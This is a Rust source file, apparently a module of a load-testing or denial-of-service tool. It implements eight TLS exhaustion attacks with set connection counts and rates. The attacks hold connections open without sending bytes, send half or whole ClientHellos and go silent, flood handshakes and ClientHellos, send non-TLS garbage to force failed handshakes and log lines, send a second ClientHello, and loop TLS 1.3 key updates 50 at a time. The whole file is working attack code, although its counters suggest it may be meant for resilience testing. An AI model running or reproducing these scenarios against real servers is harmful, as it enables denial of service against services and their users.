//! A10 and A11: TLS, where few bytes of a client cost the server the most.

use super::{EACH, Needs, Scenario};
use crate::addresses::Spread;
use crate::attack::{Attack, at_rate, hold};
use crate::connect::{Way, tcp};
use crate::tls::{Alpn, client, client_hello, server_name};
use crate::wire::Wire;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;

/// Requests to change keys before `tls-key-update` looks at the answers.
const KEYS_AT_ONCE: usize = 50;

/// The scenarios of this family.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "tls-silent",
        vector: "A10",
        what: "connections to the port with TLS, without a byte",
        needs: Needs::Tls,
        connections: 4_000,
        rate: 1_000,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, |attack, n| parts(attack, n, 0))),
    },
    Scenario {
        name: "tls-half",
        vector: "A10",
        what: "half a ClientHello, and silence",
        needs: Needs::Tls,
        connections: 4_000,
        rate: 1_000,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, |attack, n| parts(attack, n, 50))),
    },
    Scenario {
        name: "tls-unfinished",
        vector: "A10",
        what: "a whole ClientHello, and silence after the server's response",
        needs: Needs::Tls,
        connections: 4_000,
        rate: 500,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, |attack, n| parts(attack, n, 100))),
    },
    Scenario {
        name: "tls-hello-flood",
        vector: "A10",
        what: "ClientHellos at a rate; each leaves once the server has signed",
        needs: Needs::Tls,
        connections: 500,
        rate: 1_000,
        addresses: 2_000,
        spread: Spread::Wide,
        run: |attack| Box::pin(at_rate(attack, hello_and_leave)),
    },
    Scenario {
        name: "tls-handshakes",
        vector: "A10",
        what: "whole handshakes at a rate, without resumption, and nothing after",
        needs: Needs::Tls,
        connections: 500,
        rate: 500,
        addresses: 2_000,
        spread: Spread::Wide,
        run: |attack| Box::pin(at_rate(attack, handshake)),
    },
    Scenario {
        name: "tls-garbage",
        vector: "A10",
        what: "bytes that are no TLS, at a rate: one failed handshake each, and one line where it is logged",
        needs: Needs::Tls,
        connections: 500,
        rate: 1_000,
        addresses: 2_000,
        spread: Spread::Wide,
        run: |attack| Box::pin(at_rate(attack, garbage)),
    },
    Scenario {
        name: "tls-second-hello",
        vector: "A11",
        what: "a second ClientHello where the first handshake should end",
        needs: Needs::Tls,
        connections: 100,
        rate: 100,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, second_hello)),
    },
    Scenario {
        name: "tls-key-update",
        vector: "A11",
        what: "TLS 1.3 key updates as fast as they are taken: renegotiation's heir",
        needs: Needs::Tls,
        connections: 50,
        rate: 50,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, key_update)),
    },
];

fn in_the_clear(attack: &Attack) -> Way {
    Way { tls: None, ..attack.way.clone() }
}

/// Sends so many hundredths of a ClientHello and waits for the end.
async fn parts(attack: Arc<Attack>, n: usize, percent: usize) {
    let Ok(hello) = client_hello(attack.host()) else { return };
    let Some(mut wire) = attack.open_by(&in_the_clear(&attack), n).await else { return };
    let part = hello.len().saturating_mul(percent) / 100;
    if wire.write_all(hello.get(..part).unwrap_or_default()).await.is_ok() {
        wire.until_closed().await;
    }
}

async fn hello_and_leave(attack: Arc<Attack>, n: usize) {
    let Ok(hello) = client_hello(attack.host()) else { return };
    let Some(mut wire) = attack.open_by(&in_the_clear(&attack), n).await else { return };
    if wire.write_all(&hello).await.is_err() {
        return;
    }
    note_records(&attack, &mut wire).await;
}

/// The kind of the first record that comes back.
async fn note_records(attack: &Attack, wire: &mut Wire) {
    let mut first = [0; 1];
    match timeout(Duration::from_secs(10), wire.read(&mut first)).await {
        Ok(Ok(1)) if first == [22] => attack.tally.event("tls: handshake answered"),
        Ok(Ok(1)) if first == [21] => attack.tally.event("tls: alert"),
        Ok(Ok(1)) => attack.tally.event("tls: answered with something else"),
        Ok(_) => attack.tally.event("tls: ended without a record"),
        Err(_) => attack.tally.event("tls: no record within 10 s"),
    }
}

async fn handshake(attack: Arc<Attack>, n: usize) {
    // Opened is whole handshakes here, `handshake_failed` the others.
    drop(attack.open(n).await);
}

async fn garbage(attack: Arc<Attack>, n: usize) {
    let Some(mut wire) = attack.open_by(&in_the_clear(&attack), n).await else { return };
    if wire.write_all(b"GET / HTTP/1.1\r\nHost: no.tls.example\r\n\r\n").await.is_ok() {
        note_records(&attack, &mut wire).await;
        wire.until_closed().await;
    }
}

async fn second_hello(attack: Arc<Attack>, n: usize) {
    let Ok(hello) = client_hello(attack.host()) else { return };
    let Some(mut wire) = attack.open_by(&in_the_clear(&attack), n).await else { return };
    if wire.write_all(&hello).await.is_err() {
        return;
    }
    note_records(&attack, &mut wire).await;
    attack.tally.requests.one();
    if wire.write_all(&hello).await.is_ok() {
        wire.until_closed().await;
    }
}

/// Needs the TLS state itself, so its bytes are counted by records and not by the wire.
async fn key_update(attack: Arc<Attack>, n: usize) {
    let source = attack.source(n);
    let stream = match tcp(&attack.way, source).await {
        Ok(stream) => stream,
        Err(how) => return attack.tally.unopened(how),
    };
    let (Ok(config), Ok(name)) = (client(Alpn::H1, false), server_name(attack.host())) else {
        return;
    };
    let wire = Wire::new(Box::new(stream), attack.tally.clone());
    let shaken = TlsConnector::from(config).connect(name, wire);
    let Ok(Ok(mut tls)) = timeout(Duration::from_secs(10), shaken).await else {
        return attack.tally.event("tls: no handshake");
    };
    let mut buffer = [0; 4_096];
    while attack.goes_on() {
        for _ in 0..KEYS_AT_ONCE {
            if tls.get_mut().1.refresh_traffic_keys().is_err() {
                return attack.tally.event("tls: keys cannot be changed (TLS 1.2)");
            }
            attack.tally.event("tls: key update sent");
        }
        if tls.flush().await.is_err() {
            return;
        }
        // Takes in the answers, without waiting for more.
        match timeout(Duration::from_millis(1), tls.read(&mut buffer)).await {
            Ok(Ok(0) | Err(_)) => return,
            Ok(Ok(_)) => {}
            Err(_) => sleep(Duration::from_millis(1)).await,
        }
    }
}
